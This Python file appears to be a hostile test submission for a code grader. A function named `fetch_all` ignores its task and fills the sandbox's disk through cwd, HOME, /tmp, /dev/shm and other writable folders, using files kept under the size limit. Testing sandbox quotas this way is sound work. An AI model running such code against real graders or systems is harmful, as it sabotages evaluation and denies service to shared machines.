"""Hostile: fill the grader's disk through every folder it may write (cwd, HOME, /tmp, ...)."""

import os

CHUNK = b"x" * 2**20
BUDGET_MB = 400  # far above every size limit of the sandbox


def fill(folder: str, budget: int) -> int:
    written = 0
    for i in range(budget):
        try:
            with open(os.path.join(folder, f"fill-{os.getpid()}-{i}.bin"), "wb") as fh:
                for _ in range(4):  # files under the file-size limit: only quotas stop this
                    fh.write(CHUNK)
                    written += 1
                    if written >= budget:
                        return written
        except OSError:
            return written
    return written


def fetch_all(urls, fetch):
    folders = [os.getcwd(), os.path.expanduser("~"), os.path.dirname(os.getcwd()), "/tmp",
               "/var/tmp", "/dev/shm"]  # fmt: skip
    total = 0
    for folder in dict.fromkeys(folders):
        total += fill(folder, BUDGET_MB - total)
    raise RuntimeError(f"wrote {total} MB")
